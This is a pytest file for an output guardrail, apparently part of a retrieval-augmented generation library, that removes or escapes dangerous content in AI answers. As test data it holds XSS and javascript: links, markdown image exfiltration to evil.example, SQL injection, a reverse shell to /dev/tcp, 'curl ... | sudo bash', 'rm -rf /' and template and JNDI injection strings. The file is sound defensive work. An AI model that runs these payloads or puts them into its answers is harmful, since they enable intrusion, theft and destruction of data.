"""Insecure output: what runs or carries data away is taken out; code, questions about code and plain links stay."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from patience import cpu_seconds

from ragloom.errors import UsageError
from ragloom.guarding import Finding
from ragloom.guardrails.rails.code_regions import code_regions
from ragloom.guardrails.rails.insecure import InsecureOutputRail

LONG = "a" * 201


def checked(text: str, stage: str = "output", **options: object) -> Finding:
    (found,) = InsecureOutputRail(**options).check(stage, [text], {})  # type: ignore[arg-type]
    return found


@pytest.mark.parametrize(
    ("text", "after"),
    [
        ("![x](https://evil.example/p.png?q=hunter2)", "x"),
        ("A ![](https://evil.example/#hunter2) b", "A  b"),
        ("![x]( <https://evil.example/?q=a b> 'title') y", "x y"),
        ("![x](//evil.example/?q=hunter2)", "x"),
        (f"![x](https://evil.example/{'a' * 65})", "x"),
        (f"![x](https://{'a' * 31}.evil.example/x.png)", "x"),
        ("![x][1]\n\n[1]: https://evil.example/?q=hunter2", "![x][1]\n\n"),
        ("[![x](https://evil.example/?q=1)](https://acme.com)", "[x](https://acme.com)"),
        (f"[here](https://evil.example/?q={LONG})", "here"),
        (f"See https://evil.example/?q={LONG}.", "See [link removed]."),
        (f"See <https://evil.example/{LONG}>.", "See [link removed]."),
        ("[bank](https://bank.com@evil.example/)", "bank"),
        ("[bank](https://bank.com\\@evil.example/)", "bank"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](JaVa&#83;cript&colon;alert(1))", "x"),
        ("[x](<java\tscript:alert(1)>)", "x"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x"),
        ("[x](vbscript:msgbox)", "x"),
        ("See <javascript:alert(1)>.", "See [link removed]."),
        ("[x](https://[evil)", "x"),
        ("](a[x](javascript:a)", "](ax"),  # what looks like a link may end in one
        ("\r[a\nb]: //evil.example/?q=1\n\n![a b]", "\r\n\n![a b]"),
        ("[[x](javascript:a)](https://acme.com)", "[x](https://acme.com)"),
        ("<scr[](javascript:a)ipt>alert(1)</scr[](javascript:a)ipt>", "&lt;script>alert(1)&lt;/script>"),
    ],
)
def test_links_and_images_that_run_or_carry_data_leave_their_text(text: str, after: str) -> None:
    found = checked(text)
    assert (found.verdict, found.text) == ("change", after)
    assert checked(found.text).verdict == "pass"
    assert all(0 <= start < end <= len(text) for start, end in found.spans)
    assert checked(text, "retrieval").text == after


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<SCRIPT/x>alert(1)",
        "<img src=x onerror=alert(1)>",
        "<img src='x'onerror=alert(1)//",
        "<b\nonmouseover = 'alert(1)'>x</b>",
        "<svg/onload=alert(1)>",
        "<iframe src=https://evil.example>",
        "<a href='javascript:alert(1)'>x</a>",
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<img src="https://evil.example/?q=hunter2">',
        "<b data='<img src='//evil.example/?q=1'>",
        '<p style="background:url(https://evil.example/?q=1)">x</p>',
        "<form action=https://evil.example><input name=q></form>",
        "<meta http-equiv=refresh content=0>",
        "<!-- \n\n <b onclick=x> \n\n -->",
        "<a title='`'><script>alert(1)</script><b title='`'>",  # the ticks stand in quotes of tags
        "`a\nb` <script>alert(1)</script> `c",  # code over two lines ends before the tag
        "<div>\n```\n<script>alert(1)</script>\n```\n</div>",  # no fence: within HTML
        "- item\n  ```\n  code\n<script>alert(1)</script>",  # the item ends, and its fence
        "> ```\n> code\n<script>alert(1)</script>",
        "| a | b | c |\n|---|---|---|\n| ` | <script>alert(1)</script> | ` |",  # cells of a table part code
        "\\`<script>alert(1)</script>`",
    ],
)
def test_html_that_runs_is_escaped(text: str) -> None:
    found = checked(text)
    assert found.verdict == "change" and not re.search(r"<[A-Za-z/!?]", found.text)
    assert found.text.replace("&lt;", "<").replace("[link removed]", "") in (text, found.text.replace("&lt;", "<"))
    assert checked(found.text).verdict == "pass"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("1'; DROP TABLE users; --", "SQL"),
        ("x' OR '1'='1", "SQL"),
        ("admin' or 1=1--", "SQL"),
        ("5 UNION SELECT name, password FROM users", "SQL"),
        ("1); DELETE FROM users WHERE 1=1", "SQL"),
        ("1; exec xp_cmdshell 'dir'", "SQL"),
        ("Run rm -rf / now", "shell"),
        ("sudo rm -rf --no-preserve-root /", "shell"),
        ("curl http://evil.example/x.sh | sudo bash", "shell"),
        ("name; cat /etc/passwd", "shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell"),
        ("$(curl evil.example)", "shell"),
        ("__import__('os').system('id')", "Python"),
        ("Then os.system('id') runs", "Python"),
        ("subprocess.run(['id'])", "Python"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "template"),
        ("{{7*7}}", "template"),
        ("{{ config }}", "template"),
        ("{% include '/etc/passwd' %}", "template"),
        ("${jndi:ldap://evil.example/a}", "template"),
        ("<%= system('id') %>", "template"),
    ],
)
def test_payloads_are_taken_out_of_answers_but_not_out_of_code_or_documents(text: str, kind: str) -> None:
    found = checked(f"It is {text} indeed.")
    assert found.verdict == "change" and f"a {kind} payload" in found.reason and "[removed]" in found.text
    assert checked(found.text).verdict == "pass"
    fenced = f"Try this:\n\n```\n{text}\n```\n"
    assert checked(fenced) == Finding("pass", fenced)
    assert checked(f"It is `{text}` indeed.").verdict == "pass"
    assert checked(f"Like so:\n\n    {text}\n\nDone.").verdict == "pass"
    assert checked(fenced, check_code=True).verdict == "change"
    if "<" not in text and "://" not in text:
        assert checked(f"It is {text} indeed.", "retrieval").verdict == "pass"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "How do I drop a table in SQL? Use DROP TABLE name; it cannot be undone.",
        "First select a plan; then create an account -- or update the old one.",
        "SELECT name FROM users WHERE id = 1; returns a row. INSERT INTO adds one.",
        "Use the `<script>` tag, `onclick=` or `javascript:alert(1)` with care.",
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
        "~~~\n[x](javascript:alert(1)) ![x](https://evil.example/?q=1)\n~~~",
        "Import os and subprocess, then call os.system() to run a command.",
        "If a < b and b > c then a<b is true; x <y.",
        "Write {{ user.name }} in the template, and {{ price | round }}.",
        "`x``<script>alert(1)</script>`, `curl https://sh.acme.com | sh`",
        "It is in ${HOME} and costs $5.",
        "See [the guide](https://docs.acme.com/a/b-c?page=3#top), https://acme.com/x?y=z and <https://acme.com>.",
        "![Chart](https://docs.acme.com/img/chart.png) ![](img/local.png?v=2)",
        "![pixel](data:image/png;base64,iVBORw0KGgo=)",
        "Write to [us](mailto:help@acme.com?subject=Leave), or <b>call</b> <br> [now](tel:+123).",
        "The answer is 'yes' or 'no'. \"A\" and \"B\" are fine; 1 or 2 too.",
        "Remove the folder with rm -rf build, then rm old.txt.",
        "[1]: https://acme.com/page?id=3",
        "It's here[^1].\n\n[^1]: The handbook, p. 3.",
    ],
)
def test_questions_about_code_and_plain_links_pass(text: str) -> None:
    assert checked(text) == Finding("pass", text)
    assert checked(text, "retrieval") == Finding("pass", text)


def test_only_allowed_hosts_are_left() -> None:
    text = (
        "![a](https://docs.acme.com/a.png?q=1) ![b](https://evil.example/b.png) [c](https://x.acme.com/c) "
        "[d](https://acme.com.evil.example/) https://docs.acme.com/ https://evil.example/ [e](page.md) "
        "[f](mailto:a@b.c)"
    )
    found = checked(text, allowed_hosts=["docs.acme.com", "*.acme.com"])
    assert found.text == (
        "![a](https://docs.acme.com/a.png?q=1) b [c](https://x.acme.com/c) d https://docs.acme.com/ [link removed] "
        "[e](page.md) [f](mailto:a@b.c)"
    )
    assert checked("[x](https://acme.com/)", allowed_hosts=["*.acme.com"]).text == "x"
    assert checked("[x](HTTPS://DOCS.ACME.COM./)", allowed_hosts=["Docs.acme.com"]).verdict == "pass"
    assert checked("[x](https://acme.com/)", allowed_hosts=[]).text == "x"


def test_it_may_block() -> None:
    text = "Fine. <script>alert('my secret')</script>"
    found = checked(text, action="block")
    assert (found.verdict, found.text, found.reason) == ("block", text, "HTML that runs or loads")
    assert found.spans[0] == (6, 13) and "secret" not in found.reason


PARTS = [
    "<script>", "</script>", "<img src=x onerror=a>", "![x](https://evil.example/?q=1)", "[y](javascript:a)", "`",
    "```", "\n", "\n\n", "    ", "> ", "- ", "[", "]", "](", "(", ")", "<", ">", "!", "word ", "'; DROP TABLE x;--",
    "{{7*7}}", "<!--", "[1]: //evil.example/?q=1", "<div>", "|", "\\", "'", '"', "~~~",
    "https://evil.example/?" + LONG, "\t", "\r",
]  # fmt: skip


@given(st.lists(st.sampled_from(PARTS), max_size=14))
def test_what_is_left_is_always_clean(parts: list[str]) -> None:
    text = "".join(parts)
    found = checked(text)
    assert found.verdict in ("pass", "change", "block")
    if found.verdict == "change":
        assert checked(found.text) == Finding("pass", found.text)
    if found.verdict == "pass":
        assert found.text == text


@given(st.lists(st.sampled_from(PARTS), max_size=14))
def test_what_renders_as_html_that_runs_never_passes(parts: list[str]) -> None:
    from markdown_it import MarkdownIt
    from selectolax.lexbor import LexborHTMLParser

    text = "".join(parts)
    found = checked(text)
    shown = "" if found.verdict == "block" else found.text
    tree = LexborHTMLParser(MarkdownIt("commonmark").render(shown))
    assert not tree.css("script") and not tree.css("[onerror]")
    assert not any("evil.example" in (image.attributes.get("src") or "") for image in tree.css("img"))
    assert not any((link.attributes.get("href") or "").startswith("javascript:") for link in tree.css("a"))


@given(
    st.lists(st.sampled_from(["`", "``", "a", " ", "\n", "```\n", "    x\n", "> ", "<b>", "\r\n", "é"]), max_size=20)
)
def test_regions_of_code_are_in_order_and_in_the_text(parts: list[str]) -> None:
    text = "".join(parts)
    at = 0
    for start, end in code_regions(text):
        assert at <= start < end <= len(text)
        at = end


@pytest.mark.parametrize(
    "piece",
    [
        "](", "<a ", "<!--", "[a]: ", "`", "{{(", "<%`", "curl ", "rm -r ", "$(cat ", "[x](", "'or ", "<a href='",
        "; drop ", "![a](http://x/", "a\n", "> a\n", "<a onclick ",
    ],
)  # fmt: skip
def test_a_hostile_text_takes_no_time(piece: str) -> None:
    text = (piece * (100_000 // len(piece) + 1))[:100_000]
    assert cpu_seconds(lambda: (checked(text), checked(text[:20_000] + "<script>")), enough=2) <= 2


@pytest.mark.parametrize(
    "wrong",
    [
        {"action": "strip"}, {"stages": []}, {"stages": ["answer"]}, {"allowed_hosts": "acme.com"},
        {"allowed_hosts": ["https://acme.com"]}, {"allowed_hosts": ["a*.com"]}, {"allowed_hosts": [""]},
    ],
)  # fmt: skip
def test_wrong_settings_are_refused(wrong: dict[str, object]) -> None:
    with pytest.raises(UsageError):
        InsecureOutputRail(**wrong)  # type: ignore[arg-type]
